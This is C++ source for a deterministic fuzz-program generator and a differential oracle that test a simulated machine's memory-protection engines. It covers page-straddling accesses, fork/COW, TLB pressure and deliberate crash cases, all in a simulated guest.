    case Op::kJge: return "jge";
    case Op::kJb: return "jb";
    case Op::kJae: return "jae";
    default: return "jz";
  }
}

// Weighted pick from a subset of the opcode table.
Op pick_op(Rng& rng, const std::vector<Op>& subset) {
  const auto& w = opcode_weights();
  u32 total = 0;
  for (Op op : subset) total += w.at(op);
  u32 roll = rng.below(total);
  for (Op op : subset) {
    const u32 weight = w.at(op);
    if (roll < weight) return op;
    roll -= weight;
  }
  return subset.front();
}

class Emitter {
 public:
  Emitter(Rng& rng, bool mixed_text, const GenOptions& opts)
      : rng_(rng), mixed_(mixed_text), opts_(opts) {}

  std::string build();

 private:
  void line(const std::string& s) { out_ << "    " << s << "\n"; }
  void label(const std::string& s) { out_ << s << ":\n"; }
  void raw(const std::string& s) { out_ << s << "\n"; }

  // Fold a register's value into the checksum.
  void fold(const std::string& reg) { line("add r5, " + reg); }

  std::string lbl(const char* stem) {
    return std::string("fz_") + stem + std::to_string(k_) + "_" +
           std::to_string(serial_++);
  }

  // --- action emitters (each self-contained: see generator.h) -----------
  void act_alu();
  void act_jcc();
  void act_loop();
  void act_mem();
  void act_stack();
  void act_call();
  void act_write();
  void act_misc();
  void act_fork();
  void act_mmap();
  void act_tlb_pressure();
  void act_text_store();
  void act_lethal();

  // A page-straddling fetch site: align to a page boundary, pad so the
  // next instruction's first byte sits a few bytes before the next
  // boundary, and jump over the pad. Every action starts with a 6-byte
  // movi, so the padded instruction is guaranteed to cross pages.
  void maybe_straddle_gadget() {
    if (!rng_.chance(25)) return;
    const std::string l = lbl("sg");
    line("jmp " + l);
    raw("    .align 4096");
    raw("    .space " + std::to_string(rng_.range(4091, 4095)) + ", 0x90");
    label(l);
  }

  Rng& rng_;
  bool mixed_;
  GenOptions opts_;
  std::ostringstream out_;
  u32 k_ = 0;       // current action index
  u32 serial_ = 0;  // unique-label counter
};

void Emitter::act_alu() {
  line("movi r0, " + hex(static_cast<u32>(rng_.next())));
  line("movi r1, " + hex(static_cast<u32>(rng_.next())));
  line("movi r2, " + std::to_string(rng_.range(1, 97)));
  static const std::vector<Op> kAluOps = {
      Op::kAdd, Op::kSub, Op::kMul, Op::kDiv,  Op::kAnd, Op::kOr,
      Op::kXor, Op::kShl, Op::kShr, Op::kModu, Op::kCmp, Op::kMov};
  const u32 n = rng_.range(3, 7);
  for (u32 i = 0; i < n; ++i) {
    const Op op = pick_op(rng_, kAluOps);
    const std::string ra = "r" + std::to_string(rng_.below(2));  // r0/r1
    if (op == Op::kDiv || op == Op::kModu) {
      // r2 is re-seeded nonzero right before each division so no value
      // flow can make the divisor zero.
      line("movi r2, " + std::to_string(rng_.range(1, 97)));
      line(std::string(alu_mnemonic(op)) + " " + ra + ", r2");
    } else if (rng_.chance(15)) {
      line("not " + ra);
    } else if (rng_.chance(15)) {
      line("addi " + ra + ", " + hex(static_cast<u32>(rng_.next())));
    } else {
      const std::string rb = "r" + std::to_string(rng_.below(3));
      line(std::string(alu_mnemonic(op)) + " " + ra + ", " + rb);
    }
  }
  if (rng_.chance(30)) line("nop");
  fold("r0");
}

void Emitter::act_jcc() {
  static const std::vector<Op> kJccOps = {Op::kJz, Op::kJnz, Op::kJlt,
                                          Op::kJge, Op::kJb, Op::kJae};
  const u32 n = rng_.range(1, 3);
  for (u32 i = 0; i < n; ++i) {
    const Op cc = pick_op(rng_, kJccOps);
    const std::string skip = lbl("skip");
    line("movi r0, " + hex(static_cast<u32>(rng_.next())));
    if (rng_.chance(50)) {
      line("movi r1, " + hex(static_cast<u32>(rng_.next())));
      line("cmp r0, r1");
    } else {
      line("cmpi r0, " + hex(static_cast<u32>(rng_.next())));
    }
    line(std::string(jcc_mnemonic(cc)) + " " + skip);
    line("movi r2, " + std::to_string(rng_.range(1, 999)));
    fold("r2");
    label(skip);
    line("movi r2, 1");
    fold("r2");
  }
}

void Emitter::act_loop() {
  const std::string top = lbl("loop");
  line("movi r0, 0");
  line("movi r1, " + std::to_string(rng_.range(2, 12)));
  label(top);
  line("addi r0, " + std::to_string(rng_.range(1, 5000)));
  line("movi r2, 1");
  line("sub r1, r2");
  line("cmpi r1, 0");
  line("jnz " + top);
  fold("r0");
}

void Emitter::act_mem() {
  // Word and byte traffic against the bss buffer, biased to offsets a few
  // bytes either side of page boundaries so word accesses straddle.
  line("movi r0, fz_buf");
  const u32 n = rng_.range(1, 3);
  for (u32 i = 0; i < n; ++i) {
    const u32 page = rng_.range(1, 3) * 4096;
    const u32 delta = rng_.range(0, 7);
    const u32 off = page - 4 + delta;  // word at off straddles for delta 1..3
    line("movi r1, " + hex(static_cast<u32>(rng_.next())));
    line("store [r0+" + std::to_string(off) + "], r1");
    line("load r2, [r0+" + std::to_string(off) + "]");
    fold("r2");
    if (rng_.chance(60)) {
      const u32 boff = rng_.below(16000);
      line("movi r1, " + std::to_string(rng_.below(256)));
      line("storeb [r0+" + std::to_string(boff) + "], r1");
      line("loadb r2, [r0+" + std::to_string(boff) + "]");
      fold("r2");
    }
  }
}

void Emitter::act_stack() {
  if (rng_.chance(50)) {
    // Balanced push/pop ladder at the current stack position.
    const u32 depth = rng_.range(2, 5);
    for (u32 i = 0; i < depth; ++i) {
      line("movi r" + std::to_string(i % 3) + ", " +
           hex(static_cast<u32>(rng_.next())));
      line("push r" + std::to_string(i % 3));
    }
    for (u32 i = depth; i-- > 0;) line("pop r" + std::to_string(i % 3));
    fold("r0");
    return;
  }
  // Relocate sp so the next push's 4-byte write straddles a page boundary
  // deep in the stack VMA (demand-faulting fresh stack pages on the way).
  const u32 page = 0xBFFC1000 + rng_.below(60) * 4096;
  const u32 sp = page + rng_.range(1, 3);
  line("mov r4, sp");
  line("movi sp, " + hex(sp));
  line("movi r0, " + hex(static_cast<u32>(rng_.next())));
  line("push r0");
  line("pop r1");
  line("mov sp, r4");
  fold("r1");
}

void Emitter::act_call() {
  const std::string fn = lbl("fn");
  const std::string over = lbl("over");
  line("jmp " + over);
  label(fn);
  line("push r1");
  line("movi r1, " + std::to_string(rng_.range(1, 4000)));
  fold("r1");
  line("pop r1");
  line("ret");
  label(over);
  line("call " + fn);
  if (rng_.chance(60)) {
    line("movi r4, " + fn);
    line("callr r4");
  }
  if (rng_.chance(40)) {
    const std::string next = lbl("next");
    line("movi r4, " + next);
    line("jmpr r4");
    label(next);
  }
}

void Emitter::act_write() {
  const std::string msg = lbl("msg");
  static const char kChars[] = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::string text;
  const u32 len = rng_.range(4, 12);
  for (u32 i = 0; i < len; ++i) text += kChars[rng_.below(36)];
  raw("    .data");
  label(msg);
  raw("    .ascii \"" + text + "\\n\"");
  raw("    .text");
  line("movi r0, SYS_WRITE");
  line("movi r1, 1");
  line("movi r2, " + msg);
  line("movi r3, " + std::to_string(text.size() + 1));
  line("syscall");
  fold("r0");
}

void Emitter::act_misc() {
  switch (rng_.below(5)) {
    case 0:
      line("movi r0, SYS_GETPID");
      line("syscall");
      fold("r0");
      return;
    case 1:
      // Kernel xorshift32 PRNG: deterministic because every engine issues
      // the same syscall sequence in the same order.
      line("movi r0, SYS_RAND");
      line("syscall");
      fold("r0");
      return;
    case 2: {
      // Grow the heap and write a word straddling the old break's page.
      line("movi r0, SYS_BRK");
      line("movi r1, 0");
      line("syscall");
      line("mov r2, r0");
      line("movi r0, SYS_BRK");
      line("mov r1, r2");
      line("addi r1, " + hex(0x2000));
      line("syscall");
      line("movi r1, " + hex(static_cast<u32>(rng_.next())));
      line("store [r2+4094], r1");
      line("load r3, [r2+4094]");
      fold("r3");
      return;
    }
    case 3: {
      // pipe(): write 4 bytes in, read them back; never blocks.
      line("movi r0, SYS_PIPE");
      line("movi r1, fz_buf+8192");
      line("syscall");
      line("movi r4, fz_buf+8192");
      line("load r1, [r4+4]");
      line("movi r0, SYS_WRITE");
      line("movi r2, fz_buf");
      line("movi r3, 4");
      line("syscall");
      line("load r1, [r4+0]");
      line("movi r0, SYS_READ");
      line("movi r2, fz_buf+8256");
      line("movi r3, 4");
      line("syscall");
      fold("r0");
      return;
    }
    default: {
      // File round-trip through the simulated fs.
      const std::string path = lbl("path");
      raw("    .data");
      label(path);
      raw("    .asciz \"f" + std::to_string(k_) + "\"");
      raw("    .text");
      line("movi r0, SYS_OPEN");
      line("movi r1, " + path);
      line("movi r2, 1");
      line("syscall");
      line("mov r4, r0");
      line("movi r0, SYS_WRITE");
      line("mov r1, r4");
      line("movi r2, fz_buf");
      line("movi r3, 8");
      line("syscall");
      fold("r0");
      line("movi r0, SYS_CLOSE");
      line("mov r1, r4");
      line("syscall");
      return;
    }
  }
}

void Emitter::act_fork() {
  const std::string child = lbl("child");
  const std::string join = lbl("join");
  const u32 parent_off = rng_.below(3000) & ~3u;
  const u32 child_off = rng_.below(3000) & ~3u;
  line("movi r0, SYS_FORK");
  line("syscall");
  line("cmpi r0, 0");
  line("jz " + child);
  // Parent: a COW write, then reap the child and fold its exit code.
  line("mov r4, r0");
  line("movi r2, fz_buf");
  line("movi r1, " + hex(static_cast<u32>(rng_.next())));
  line("store [r2+" + std::to_string(parent_off) + "], r1");
  line("movi r0, SYS_WAITPID");
  line("mov r1, r4");
  line("syscall");
  fold("r0");
  line("jmp " + join);
  label(child);
  // Child: its own COW write (diverging the copies), then exit. No
  // SYS_RAND / file / console traffic here — the parent/child interleave
  // is engine-dependent in fault count even though retired behaviour is
  // not, so the child must not race the parent for shared kernel state.
  line("movi r2, fz_buf");
  line("movi r1, " + hex(static_cast<u32>(rng_.next())));
  line("store [r2+" + std::to_string(child_off) + "], r1");
  line("movi r0, SYS_EXIT");
  line("movi r1, " + std::to_string(rng_.below(200)));
  line("syscall");
  label(join);
}

void Emitter::act_mmap() {
  line("movi r0, SYS_MMAP");
  line("movi r1, 0");
  line("movi r2, 8192");
  line("movi r3, 3");
  line("syscall");
  line("mov r4, r0");
  line("movi r1, " + hex(static_cast<u32>(rng_.next())));
  line("store [r4+4094], r1");  // straddles the mapping's two pages
  line("load r3, [r4+4094]");
  fold("r3");
  if (rng_.chance(50)) {
    line("movi r0, SYS_MPROTECT");
    line("mov r1, r4");
    line("movi r2, 4096");
    line("movi r3, 1");
    line("syscall");
    fold("r0");
    line("load r3, [r4+8]");  // read-only is still readable
    fold("r3");
  } else {
    line("movi r0, SYS_MUNMAP");
    line("mov r1, r4");
    line("movi r2, 8192");
    line("syscall");
    fold("r0");
  }
}

void Emitter::act_tlb_pressure() {
  // D-TLB set-pressure dance over five bss pages 64 KiB apart (same
  // 4-way set in the 64-entry TLB). The shape is chosen so the LRU stamp
  // applied by a data-memo hit decides which entry the final fill
  // evicts: re-stamp X (correct) and the closing load of X hits; skip
  // the re-stamp (the --inject-lru-bug fault) and X is the victim — a
  // dtlb_hits/misses/cycles divergence between memo-on and memo-off.
  line("movi r0, fz_set");
  line("movi r1, fz_set+0x10000");
  line("load r2, [r1+0]");   // insert Z
  line("load r2, [r0+0]");   // insert X
  line("load r3, [r0+4]");   // X set-scan hit: arms the read memo
  line("store [r1+4], r2");  // Z write hit: re-stamps Z, no version bump
  line("load r3, [r0+8]");   // X read-memo hit: the contested LRU touch
  line("movi r1, fz_set+0x20000");
  line("load r4, [r1+0]");
  line("movi r1, fz_set+0x30000");
  line("load r4, [r1+0]");
  line("movi r1, fz_set+0x40000");
  line("load r4, [r1+0]");   // set overflows: LRU victim is Z or X
  line("load r3, [r0+12]");  // X: hit iff the memo touch happened
  fold("r3");
}

void Emitter::act_text_store() {
  // Dead stores into a text-section scratch pad that control flow never
  // reaches. Only emitted for mixed (writable+executable) text — the
  // layout NX cannot protect — so every engine permits the write. The
  // pad shares a page with live code: under NoProtection this bumps the
  // frame generation and invalidates decode-cache entries; under split
  // engines the store lands in the data frame and the code frame is
  // untouched. Both re-decode/route to the same architectural result.
  line("movi r0, fz_scratch");
  line("movi r1, " + hex(static_cast<u32>(rng_.next())));
  const u32 off = rng_.below(23) * 4;
  line("store [r0+" + std::to_string(off) + "], r1");
  line("load r2, [r0+" + std::to_string(off) + "]");
  fold("r2");
  if (rng_.chance(50)) {
    line("movi r1, " + std::to_string(rng_.below(256)));
    line("storeb [r0+" + std::to_string(rng_.below(92)) + "], r1");
  }
}

void Emitter::act_lethal() {
  switch (rng_.below(3)) {
    case 0:
      // Wild store into unmapped low memory: SIGSEGV under every engine.
      line("movi r0, 16");
      line("movi r1, 7");
      line("store [r0+0], r1");
      return;
    case 1:
      line("movi r0, 5");
      line("movi r1, 0");
      line("div r0, r1");  // #DE
      return;
    default:
      // An embedded invalid opcode: #UD. Under split memory both frames
      // of the text page hold the same byte, so the engine classifies it
      // as the program's own bug (no detection) — identical to baseline.
      raw("    .byte 0x00");
      return;
  }
}

std::string Emitter::build() {
  // Prologue: entry, optional page-straddling first instruction, zeroed
  // checksum.
  label("_start");
  if (rng_.chance(40)) {
    line("jmp fz_entry");
    // _start is at the text base; jmp is 5 bytes. Pad so fz_entry's
    // 6-byte movi starts 1..5 bytes before the first page boundary.
    raw("    .space " + std::to_string(rng_.range(4086, 4090)) + ", 0x90");
    label("fz_entry");
  }
  line("movi r5, 0");

  struct Choice {
    void (Emitter::*fn)();
    u32 weight;
  };
  const std::vector<Choice> menu = {
      {&Emitter::act_alu, 14},      {&Emitter::act_jcc, 10},
      {&Emitter::act_loop, 8},      {&Emitter::act_mem, 14},
      {&Emitter::act_stack, 10},    {&Emitter::act_call, 8},
      {&Emitter::act_write, 8},     {&Emitter::act_misc, 10},
      {&Emitter::act_fork, 7},      {&Emitter::act_mmap, 7},
      {&Emitter::act_tlb_pressure, 7},
      {&Emitter::act_text_store, mixed_ ? 6u : 0u},
  };
  u32 total = 0;
  for (const Choice& c : menu) total += c.weight;

  const u32 n = rng_.range(opts_.min_actions, opts_.max_actions);
  const bool lethal_tail = opts_.allow_lethal && rng_.chance(6);
  for (u32 i = 0; i < n; ++i) {
    k_ = i;
    raw(kActionMarker + std::to_string(i));
    maybe_straddle_gadget();
    u32 roll = rng_.below(total);
    for (const Choice& c : menu) {
      if (roll < c.weight) {
        (this->*c.fn)();
        break;
      }
      roll -= c.weight;
    }
  }
  if (lethal_tail) {
    k_ = n;
    raw(kActionMarker + std::to_string(n));
    act_lethal();
  }

  raw(kEndMarker);
  label("fz_exit");
  line("mov r1, r5");
  line("movi r0, SYS_EXIT");
  line("syscall");
  // Writable-text scratch target (act_text_store); control never reaches
  // it. Lives in .text on purpose.
  label("fz_scratch");
  raw("    .space 96, 0x90");
  // fz_set MUST stay the first bss object: its base is then the bss base
  // (vpn 0x8180), putting its 64 KiB-strided pages in D-TLB set 0 — the
  // geometry act_tlb_pressure's eviction dance depends on.
  raw("    .bss");
  label("fz_set");
  raw("    .space 0x41000");
  label("fz_buf");
  raw("    .space 16384");
  return out_.str();
}

}  // namespace

const std::map<Op, u32>& opcode_weights() {
  // Weights consulted by pick_op for class-internal choices; structural
  // opcodes (emitted by fixed action scaffolding rather than weighted
  // draws) carry their approximate emission frequency so the table stays
  // an honest census of what the generator can produce. Every isa.h
  // opcode must appear here — enforced by tests/arch/isa_coverage_test.cc.
  static const std::map<Op, u32> kWeights = {
      {Op::kMovi, 40},  {Op::kMov, 12},    {Op::kLoad, 20},
      {Op::kStore, 20}, {Op::kLoadb, 8},   {Op::kStoreb, 8},
      {Op::kAdd, 14},   {Op::kSub, 10},    {Op::kMul, 8},
      {Op::kDiv, 6},    {Op::kAnd, 8},     {Op::kOr, 8},
      {Op::kXor, 8},    {Op::kShl, 6},     {Op::kShr, 6},
      {Op::kAddi, 10},  {Op::kCmp, 8},     {Op::kCmpi, 8},
      {Op::kNot, 6},    {Op::kModu, 6},
      {Op::kJmp, 10},   {Op::kJz, 8},      {Op::kJnz, 8},
      {Op::kJlt, 6},    {Op::kJge, 6},     {Op::kJb, 6},
      {Op::kJae, 6},    {Op::kJmpr, 4},
      {Op::kCall, 8},   {Op::kCallr, 4},   {Op::kRet, 8},
      {Op::kPush, 10},  {Op::kPop, 10},
      {Op::kSyscall, 16},
      {Op::kNop, 4},
  };
  return kWeights;
}

FuzzCase generate(u64 seed, const GenOptions& opts) {
  Rng rng(seed);
  FuzzCase c;
  c.seed = seed;
  c.mixed_text = rng.chance(30);
  Emitter em(rng, c.mixed_text, opts);
  c.body = em.build();
  if (opts.fault_count > 0) {
    // Salted so the fault stream is independent of the body stream: the
    // same program can be replayed under a different schedule and vice
    // versa without perturbing either.
    c.faults = inject::FaultSchedule::generate(seed ^ 0xFA171D5Cull,
                                               opts.fault_count,
                                               opts.fault_horizon);
  }
  return c;
}

SplitBody split_actions(const std::string& body) {
  SplitBody parts;
  std::istringstream in(body);
  std::string line;
  enum { kProl, kActions, kEpil } state = kProl;
  std::string current;
  while (std::getline(in, line)) {
    if (line.rfind(kActionMarker, 0) == 0) {
      if (state == kActions) {
        parts.actions.push_back(current);
      } else {
        parts.prologue = current;
      }
      current.clear();
      state = kActions;
      continue;
    }
    if (line.rfind(kEndMarker, 0) == 0) {
      if (state == kActions) {
        parts.actions.push_back(current);
      } else {
        parts.prologue = current;
      }
      current.clear();
      state = kEpil;
      continue;
    }
    current += line;
    current += '\n';
  }
  if (state == kEpil) {
    parts.epilogue = current;
  } else if (state == kActions) {
    parts.actions.push_back(current);
  } else {
    parts.prologue = current;
  }
  return parts;
}

std::string join_actions(const SplitBody& parts) {
  std::string body = parts.prologue;
  for (std::size_t i = 0; i < parts.actions.size(); ++i) {
    body += kActionMarker + std::to_string(i) + "\n";
    body += parts.actions[i];
  }
  body += kEndMarker;
  body += '\n';
  body += parts.epilogue;
  return body;
}

u32 count_instructions(const std::string& body) {
  std::istringstream in(body);
  std::string line;
  u32 n = 0;
  while (std::getline(in, line)) {
    // Strip comments.
    for (const char c : {';', '#'}) {
      const auto pos = line.find(c);
      if (pos != std::string::npos) line.resize(pos);
    }
    // Strip leading whitespace and label heads.
    std::size_t b = line.find_first_not_of(" \t");
    if (b == std::string::npos) continue;
    std::string s = line.substr(b);
    const auto colon = s.find(':');
    if (colon != std::string::npos) s = s.substr(colon + 1);
    b = s.find_first_not_of(" \t");
    if (b == std::string::npos) continue;
    s = s.substr(b);
    if (s.empty() || s[0] == '.') continue;  // directive
    ++n;
  }
  return n;
}

}  // namespace sm::fuzz
