// Seeded random guest-program generator for differential fuzzing.
//
// generate(seed) produces a benign assembly program for the simulated
// machine, biased toward the paths where the split-memory engine, the
// decode cache and the translation memos earn their keep: instruction
// fetches that straddle page boundaries, stack and heap accesses next to
// page edges, fork/COW, mmap/mprotect, D-TLB set pressure, and (in
// mixed-text images) stores into the text segment.
//
// Two properties are load-bearing:
//
//  1. DETERMINISM. The program is a pure function of the seed. No host
//     entropy, no iteration over unordered containers.
//
//  2. BENIGNITY. The program must behave identically under every
//     protection engine, so the differential oracle can demand exact
//     equality. That is why the generator never emits write-THEN-EXECUTE
//     sequences (real JIT/SMC is architecturally visible under split
//     memory — the paper's §6.2 compatibility caveat); text-segment
//     stores only ever target a scratch pad that control flow never
//     reaches, and only when the image is built with a writable text
//     VMA (mixed_text), so NX baselines do not kill what the others run.
//     SYS_TIME is likewise excluded: it returns the cycle counter, which
//     legitimately differs across engines.
//
// The emitted body is structured as
//     <prologue> ;;A0 <action0> ;;A1 <action1> ... ;;END <epilogue>
// where every action is self-contained (initializes the registers it
// reads, balances the stack, folds its results into the r5 checksum) so
// the shrinker can delete any subset of actions and still have a valid,
// benign program.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "arch/isa.h"
#include "arch/types.h"
#include "inject/fault_schedule.h"

namespace sm::fuzz {

using arch::u32;
using arch::u64;

struct FuzzCase {
  u64 seed = 0;
  bool mixed_text = false;  // text VMA writable+executable (paper Fig. 1b)
  std::string body;         // assembly; harness wraps with prelude + libc
  // Fault schedule for the oracle's robustness clause (src/inject). Empty
  // (the default) means the clause is skipped; the behavioural/billing
  // clauses always run the program on a fault-free machine.
  inject::FaultSchedule faults;
};

struct GenOptions {
  u32 min_actions = 8;
  u32 max_actions = 24;
  // Allow rare program-terminating actions (wild store → SIGSEGV,
  // embedded #UD byte → SIGILL, divide by zero → SIGFPE). These are still
  // benign in the oracle's sense — every engine must kill the process at
  // the same instruction with the same signal.
  bool allow_lethal = true;
  // Fault-schedule axis (default off, so behavioural fuzzing is
  // unchanged): > 0 attaches that many scheduled faults, derived
  // deterministically from the case seed, over the first fault_horizon
  // instructions.
  u32 fault_count = 0;
  u64 fault_horizon = 200'000;
};

FuzzCase generate(u64 seed, const GenOptions& opts = {});

// The generator's opcode bias table. Every opcode of arch::Op appears
// with weight > 0; tests/arch/isa_coverage_test.cc fails listing any
// isa.h opcode missing from this map, which keeps fuzz coverage honest
// as the ISA grows.
const std::map<arch::Op, u32>& opcode_weights();

// --- body structure (shared with the shrinker) ---------------------------
inline constexpr const char* kActionMarker = ";;A";
inline constexpr const char* kEndMarker = ";;END";

struct SplitBody {
  std::string prologue;              // up to the first ;;A marker
  std::vector<std::string> actions;  // one chunk per ;;A marker
  std::string epilogue;              // from ;;END (exclusive) to the end
};

SplitBody split_actions(const std::string& body);
// Reassembles a body; action markers are re-numbered densely.
std::string join_actions(const SplitBody& parts);

// Static instruction count of a body: lines that are neither empty,
// comments, labels nor directives. The shrinker's "≤ N instructions"
// reproducer bound is measured with this.
u32 count_instructions(const std::string& body);

}  // namespace sm::fuzz
