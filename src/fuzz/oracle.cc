#include "fuzz/oracle.h"

#include <sstream>

#include "asm/assembler.h"
#include "guest/guestlib.h"
#include "image/image.h"
#include "inject/fault_injector.h"
#include "invariant/watchdog.h"

namespace sm::fuzz {

namespace {

image::Image build(const FuzzCase& c) {
  const auto program = assembler::assemble(guest::program(c.body));
  image::BuildOptions opts;
  opts.name = "fuzz";
  opts.mixed_text = c.mixed_text;
  return image::build_image(program, opts);
}

const char* run_result_name(kernel::Kernel::RunResult r) {
  switch (r) {
    case kernel::Kernel::RunResult::kAllExited: return "all-exited";
    case kernel::Kernel::RunResult::kAllBlocked: return "all-blocked";
    case kernel::Kernel::RunResult::kBudgetExhausted: return "budget-exhausted";
  }
  return "?";
}

const char* exit_kind_name(kernel::ExitKind k) {
  switch (k) {
    case kernel::ExitKind::kRunning: return "running";
    case kernel::ExitKind::kExited: return "exited";
    case kernel::ExitKind::kKilledSigsegv: return "sigsegv";
    case kernel::ExitKind::kKilledSigill: return "sigill";
  }
  return "?";
}

// Every simulated counter, by name, plus whether it is one of the
// host-side fast-path counters the billing clause exempts. Cycles are
// listed first so a billing divergence reports the clock before the
// downstream counters it desynchronized.
struct CounterRef {
  const char* name;
  std::uint64_t metrics::Stats::*field;
  bool host_side;
};

constexpr CounterRef kCounters[] = {
    {"cycles", &metrics::Stats::cycles, false},
    {"instructions", &metrics::Stats::instructions, false},
    {"itlb_hits", &metrics::Stats::itlb_hits, false},
    {"itlb_misses", &metrics::Stats::itlb_misses, false},
    {"dtlb_hits", &metrics::Stats::dtlb_hits, false},
    {"dtlb_misses", &metrics::Stats::dtlb_misses, false},
    {"tlb_flushes", &metrics::Stats::tlb_flushes, false},
    {"hardware_walks", &metrics::Stats::hardware_walks, false},
    {"fetch_fastpath_hits", &metrics::Stats::fetch_fastpath_hits, true},
    {"data_fastpath_hits", &metrics::Stats::data_fastpath_hits, true},
    {"decode_cache_hits", &metrics::Stats::decode_cache_hits, true},
    {"decode_cache_misses", &metrics::Stats::decode_cache_misses, true},
    {"decode_cache_invalidations", &metrics::Stats::decode_cache_invalidations,
     true},
    {"block_cache_hits", &metrics::Stats::block_cache_hits, true},
    {"block_cache_misses", &metrics::Stats::block_cache_misses, true},
    {"block_cache_invalidations", &metrics::Stats::block_cache_invalidations,
     true},
    {"block_instructions", &metrics::Stats::block_instructions, true},
    {"page_faults", &metrics::Stats::page_faults, false},
    {"split_dtlb_loads", &metrics::Stats::split_dtlb_loads, false},
    {"split_itlb_loads", &metrics::Stats::split_itlb_loads, false},
    {"split_dtlb_fallbacks", &metrics::Stats::split_dtlb_fallbacks, false},
    {"soft_tlb_fills", &metrics::Stats::soft_tlb_fills, false},
    {"single_steps", &metrics::Stats::single_steps, false},
    {"demand_pages", &metrics::Stats::demand_pages, false},
    {"cow_copies", &metrics::Stats::cow_copies, false},
    {"syscalls", &metrics::Stats::syscalls, false},
    {"invalid_opcode_faults", &metrics::Stats::invalid_opcode_faults, false},
    {"context_switches", &metrics::Stats::context_switches, false},
    {"sched_wake_checks", &metrics::Stats::sched_wake_checks, true},
    {"injections_detected", &metrics::Stats::injections_detected, false},
};

}  // namespace

// Compares one non-reference run against the reference on the behavioural
// clause. Empty string == equal.
std::string diff_behavior(const RunObservation& ref, const std::string& ref_l,
                          const RunObservation& got, const std::string& got_l) {
  std::ostringstream d;
  const std::string head = got_l + " vs " + ref_l + ": ";
  if (got.result != ref.result)
    return head + "run result " + run_result_name(got.result) + " != " +
           run_result_name(ref.result);
  if (got.detections != ref.detections)
    return head + "detections " + std::to_string(got.detections) + " != " +
           std::to_string(ref.detections);
  if (got.instructions != ref.instructions)
    return head + "retired instructions " + std::to_string(got.instructions) +
           " != " + std::to_string(ref.instructions);
  if (got.procs.size() != ref.procs.size())
    return head + "process count " + std::to_string(got.procs.size()) +
           " != " + std::to_string(ref.procs.size());
  for (std::size_t i = 0; i < ref.procs.size(); ++i) {
    const ProcObservation& a = ref.procs[i];
    const ProcObservation& b = got.procs[i];
    const std::string who = head + "pid " + std::to_string(a.pid) + " ";
    if (b.pid != a.pid)
      return who + "pid mismatch " + std::to_string(b.pid);
    if (b.exit_kind != a.exit_kind)
      return who + "exit kind " + std::string(exit_kind_name(b.exit_kind)) +
             " != " + exit_kind_name(a.exit_kind);
    if (b.exit_code != a.exit_code)
      return who + "exit code " + std::to_string(b.exit_code) + " != " +
             std::to_string(a.exit_code);
    if (b.console != a.console) return who + "console output differs";
    if (b.syscalls != a.syscalls) {
      std::size_t j = 0;
      while (j < a.syscalls.size() && j < b.syscalls.size() &&
             a.syscalls[j] == b.syscalls[j])
        ++j;
      d << who << "syscall trace differs at #" << j << ": "
        << (j < b.syscalls.size() ? to_string(b.syscalls[j]) : "<end>")
        << " != "
        << (j < a.syscalls.size() ? to_string(a.syscalls[j]) : "<end>");
      return d.str();
    }
    if (b.digest != a.digest) {
      d << who << "final-memory digest "
        << (b.digest ? image::hex_digest(*b.digest).substr(0, 16) : "<none>")
        << " != "
        << (a.digest ? image::hex_digest(*a.digest).substr(0, 16) : "<none>");
      return d.str();
    }
  }
  return "";
}

// Compares full simulated stats (billing clause). Host-side fast-path
// counters are exempt — they are the knob being toggled.
std::string diff_billing(const RunObservation& ref, const std::string& ref_l,
                         const RunObservation& got, const std::string& got_l) {
  for (const CounterRef& c : kCounters) {
    if (c.host_side) continue;
    const std::uint64_t a = ref.stats.*c.field;
    const std::uint64_t b = got.stats.*c.field;
    if (a != b)
      return got_l + " vs " + ref_l + ": " + c.name + " " +
             std::to_string(b) + " != " + std::to_string(a);
  }
  return "";
}

std::vector<OracleConfig> behavioral_configs() {
  using core::ProtectionMode;
  using core::ResponseMode;
  std::vector<OracleConfig> cfgs;
  cfgs.push_back({.label = "none", .mode = ProtectionMode::kNone});
  cfgs.push_back({.label = "split-break", .mode = ProtectionMode::kSplitAll});
  cfgs.push_back({.label = "split-observe",
                  .mode = ProtectionMode::kSplitAll,
                  .response = ResponseMode::kObserve});
  cfgs.push_back({.label = "split-forensics",
                  .mode = ProtectionMode::kSplitAll,
                  .response = ResponseMode::kForensics});
  cfgs.push_back({.label = "nx", .mode = ProtectionMode::kHardwareNx});
  cfgs.push_back({.label = "pageexec", .mode = ProtectionMode::kPaxPageexec});
  cfgs.push_back(
      {.label = "nx+split", .mode = ProtectionMode::kNxPlusSplitMixed});
  cfgs.push_back({.label = "split-soft-tlb",
                  .mode = ProtectionMode::kSplitAll,
                  .software_tlb = true});
  cfgs.push_back({.label = "split-eager",
                  .mode = ProtectionMode::kSplitAll,
                  .eager_load = true});
  return cfgs;
}

std::vector<OracleConfig> billing_configs() {
  using core::ProtectionMode;
  std::vector<OracleConfig> cfgs;
  for (const auto& [engine, mode] :
       {std::pair<const char*, ProtectionMode>{"none", ProtectionMode::kNone},
        {"split-break", ProtectionMode::kSplitAll}}) {
    const std::string base = engine;
    cfgs.push_back({.label = base + "/fastpaths", .mode = mode});
    cfgs.push_back(
        {.label = base + "/no-memo", .mode = mode, .data_memo = false});
    cfgs.push_back(
        {.label = base + "/no-dcache", .mode = mode, .decode_cache = false});
    cfgs.push_back({.label = base + "/no-dbt", .mode = mode, .dbt = false});
    cfgs.push_back({.label = base + "/trace", .mode = mode, .trace = true});
  }
  return cfgs;
}

std::unique_ptr<kernel::Kernel> make_case_kernel(const FuzzCase& c,
                                                 const OracleConfig& cfg) {
  kernel::KernelConfig kc;
  kc.record_syscall_trace = true;
  kc.capture_exit_digest = true;
  kc.software_tlb = cfg.software_tlb;
  kc.eager_load = cfg.eager_load;
  kc.trace = cfg.trace;
  if (cfg.phys_frames != 0) kc.phys_frames = cfg.phys_frames;
  auto k = std::make_unique<kernel::Kernel>(kc);
  k->set_engine(core::make_engine(cfg.mode, cfg.response));
  k->register_image(build(c));
  k->spawn("fuzz");
  k->mmu().set_data_memo_enabled(cfg.data_memo);
  k->cpu().set_decode_cache_enabled(cfg.decode_cache);
  k->cpu().set_block_engine_enabled(cfg.dbt &&
                                    k->cpu().block_engine_enabled());
  if (cfg.inject_lru_bug) k->mmu().set_inject_memo_lru_bug(true);
  return k;
}

RunObservation observe(kernel::Kernel& k, kernel::Kernel::RunResult result) {
  RunObservation obs;
  obs.result = result;
  for (const auto& proc : k.processes()) {
    ProcObservation po;
    po.pid = proc->pid;
    po.exit_kind = proc->exit_kind;
    po.exit_code = proc->exit_code;
    po.console = proc->console;
    po.syscalls = proc->syscall_trace;
